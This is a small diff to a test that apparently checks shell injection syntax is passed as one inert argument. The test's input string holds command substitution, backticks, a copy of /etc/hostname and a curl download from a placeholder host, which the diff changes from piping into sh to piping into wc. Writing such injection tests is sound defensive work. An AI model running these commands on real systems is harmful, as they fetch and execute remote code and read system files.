@@ -382,7 +382,7 @@ def test_shell_syntax_reaches_the_executor_as_one_argument_and_runs_nothing(tmp_
     text = (
         "Summarise what these snippets from my notes would do, without running them:\n"
         f"$(mkdir {pwned}-1) and `tee {pwned}-2 </dev/null` ; cp /etc/hostname {pwned}-3\n"
-        f"&& curl -o {pwned}-4 http://example.invalid/x.sh|sh || printf \"double\" 'single' "
+        f"&& curl -o {pwned}-4 http://example.invalid/x.sh|wc -c || printf \"double\" 'single' "
         f'\\"esc\\" $HOME ${{PATH}} | tee {pwned}-5\n'
         "  indented line, a tab\there, and a trailing backslash \\"
     )
